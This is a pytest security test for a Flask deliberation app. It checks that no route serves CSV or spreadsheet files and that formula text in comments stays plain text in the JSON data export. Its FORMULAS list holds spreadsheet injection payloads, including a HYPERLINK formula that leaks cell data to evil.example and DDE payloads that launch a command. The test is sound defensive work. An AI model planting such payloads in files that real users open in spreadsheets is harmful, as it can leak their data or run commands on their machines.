"""Test 9 of the trust table, files: which there are, and that no text in them becomes a formula."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

import deliberate
from tests.factories.given import Given
from tests.security.everybody import People
from tests.security.test_every_door import LEAVES, readable
from tests.support.applications import ClientAs
from tests.web.shared.form_places import Places, make_places
from tests.web.shared.forms_sent import COMMENT, MIGHTY

NO_PAGES: Mapping[str, str] = {
    "participants.own_data_file": "application/json",
    "site.journal_feed": "application/atom+xml",
    "root.healthz": "text/plain",
    "root.readyz": "text/plain",
    "bundle": "text/css",
}
"""Everything that can be read and is no page, with its type.

None is a spreadsheet, or read as one: a formula is a text there. Whoever adds a file that a
spreadsheet opens (CSV, TSV, xlsx, ods) adds it here, and a test below that its cells are words.
"""
UNREAD = {
    "desks.why_missed",
    "amendments.translation",
    "comments.answer",
    "comments.confirm_withdrawal",
    "comments.edit",
    "comments.sent",
    "comments.show",
    "comments.translation",
    "frameworks.confirm_publication",
    "frameworks.draft",
    "frameworks.left_out",
    "frameworks.mend",
    "frameworks.names",
    "moderation.next_item",
    "moderation.write_appeal",
    "reports.preview",
    "reports.show",
    "root.root",
    "rounds.clause",
    "site.design",
}
"""Pages that nobody here finds at their places; `tests/browser/pages.py` has each of them."""
SPREADSHEETS = ("import csv", "csv.writer", "/csv", "spreadsheetml", "openpyxl", "xlsx", "opendoc")
"""What code says that makes a file for a spreadsheet."""
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"여기")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    '"=1+1"',
    ";=1+1",
    "%0A=1+1",
)


@pytest.fixture
def places(app: Flask, given: Given) -> Places:
    return make_places(app, given)


def test_every_file_that_can_be_read_is_named_here(
    app: Flask, given: Given, client_as: ClientAs, places: Places
) -> None:
    """Test 9: a route that answers with CSV or a spreadsheet fails this test until it is named."""
    everyone = [*People(app, given, client_as, places).clients.values(), client_as(MIGHTY)]
    found: dict[str, str] = {}
    read = set()
    for client in everyone:
        for endpoint, url in readable(app, places):
            answer = client.get(url)
            if answer.status_code != 200:
                continue
            read.add(endpoint)
            told = answer.headers.get("Content-Disposition", "")
            if answer.mimetype != "text/html" or told:
                found[endpoint] = str(answer.mimetype)
            assert "attachment" not in told or endpoint in NO_PAGES, endpoint
    assert found == NO_PAGES
    names = {rule.endpoint for rule in app.url_map.iter_rules() if "GET" in (rule.methods or ())}
    assert names - read == UNREAD | LEAVES


def test_no_code_writes_a_spreadsheet() -> None:
    """Test 9: the same for the command line, whose one export is JSON."""
    code = {
        path: path.read_text(encoding="utf-8")
        for path in Path(deliberate.__file__).parent.rglob("*.py")
    }
    assert len(code) > 200
    makers = [
        path.name for path, text in code.items() if any(each in text for each in SPREADSHEETS)
    ]
    assert makers == []


def test_a_formula_stays_a_text_in_ones_own_data(client: FlaskClient, places: Places) -> None:
    """Test 9: as typed, as a JSON string, in a file that nothing opens as a spreadsheet."""
    url = "/ko/frameworks/care/clauses/{}/comment/send".format(places.refs["clause"])
    typed = {}
    for number, formula in enumerate(FORMULAS):
        sent = {**COMMENT, **places.filled("comments.send"), "key": f"key {number}"}
        sent["one_time_name"] = f"새벽 샘터 {number}"
        answer = client.post(url, data={**sent, "body": formula})
        assert answer.status_code < 400, (formula, answer.status_code)
        typed[formula.strip()] = formula
    answer = client.get("/ko/mine/data/file")
    assert answer.mimetype == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Disposition"] == "attachment; filename=deliberate-my-data.json"
    kept = set(strings(json.loads(answer.text)))
    assert set(typed) <= kept
    page = client.get("/ko/mine/data")
    assert page.mimetype == "text/html"


def strings(value: object) -> list[str]:
    """Return every string in what a JSON file says."""
    if isinstance(value, str):
        return [value]
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return [found for each in inner for found in strings(each)]
